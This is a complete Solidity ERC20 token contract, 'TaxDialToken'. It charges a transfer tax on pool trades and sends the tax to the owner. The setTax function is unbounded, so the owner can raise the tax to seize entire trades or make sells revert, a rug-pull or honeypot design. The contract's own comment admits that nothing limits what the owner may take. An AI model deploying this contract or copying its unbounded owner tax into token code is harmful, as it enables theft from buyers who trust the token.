// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Takes little today. Nothing bounds what its owner may have it take tomorrow.
contract TaxDialToken is ERC20, Ownable {
    uint256 public taxBps = 100;
    address public pool;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setPool(address pool_) external onlyOwner {
        pool = pool_;
    }

    function setTax(uint256 bps) external onlyOwner {
        taxBps = bps;
    }

    function _update(address from, address to, uint256 amount) internal override {
        bool trade = pool != address(0) && (from == pool || to == pool) && from != owner();
        uint256 tax = trade ? (amount * taxBps) / 10_000 : 0;
        if (tax > 0) super._update(from, owner(), tax);
        super._update(from, to, amount - tax);
    }
}
